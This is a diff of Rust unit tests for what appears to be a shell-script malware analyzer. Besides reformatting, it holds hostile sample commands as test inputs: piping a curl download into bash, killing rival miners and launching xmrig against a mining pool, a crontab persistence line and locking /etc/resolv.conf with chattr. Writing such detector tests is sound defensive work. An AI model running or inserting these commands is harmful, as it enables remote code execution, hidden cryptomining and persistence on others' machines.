@@ -1,6 +1,6 @@
+use super::ScriptAnalyzer;
 use crate::analyze::config::testkit::{check_manifest, rule_class, run};
 use crate::analyze::config::ConfigAnalyzer;
-use super::ScriptAnalyzer;
 use crate::finding::Class;
 use crate::verdict::Level;
 
@@ -16,10 +16,16 @@ fn both(name: &str, text: &str) -> (Vec<crate::finding::Finding>, crate::verdict
 
 #[test]
 fn one_behaviour_alone_is_clean_and_classes_combine() {
-    let (f, v) = both("up.sh", "#!/bin/sh\ncurl -s https://get.example.com | bash\n");
+    let (f, v) = both(
+        "up.sh",
+        "#!/bin/sh\ncurl -s https://get.example.com | bash\n",
+    );
     assert_eq!(rule_class(&f, "pipe_to_shell"), Some(Class::DownloadExec));
     assert_eq!(v.level, Level::Clean);
-    let (f, v) = both("up.sh", "#!/bin/sh\nkillall -9 xmrig minerd\n./xmrig -o stratum+tcp://198.51.100.1:3333 -u x\n");
+    let (f, v) = both(
+        "up.sh",
+        "#!/bin/sh\nkillall -9 xmrig minerd\n./xmrig -o stratum+tcp://198.51.100.1:3333 -u x\n",
+    );
     assert_eq!(rule_class(&f, "kill_rival_miners"), Some(Class::RivalKill));
     assert_eq!(v.level, Level::Malicious);
 }
@@ -49,6 +55,9 @@ fn decodes_one_layer_of_base64() {
 
 #[test]
 fn documentation_is_information() {
-    let (_, v) = both("docs/guide.md", "curl x | sh\n(crontab -l; echo '* * * * * x') | crontab -\nchattr +i /etc/resolv.conf\n");
+    let (_, v) = both(
+        "docs/guide.md",
+        "curl x | sh\n(crontab -l; echo '* * * * * x') | crontab -\nchattr +i /etc/resolv.conf\n",
+    );
     assert_eq!(v.level, Level::Clean);
 }
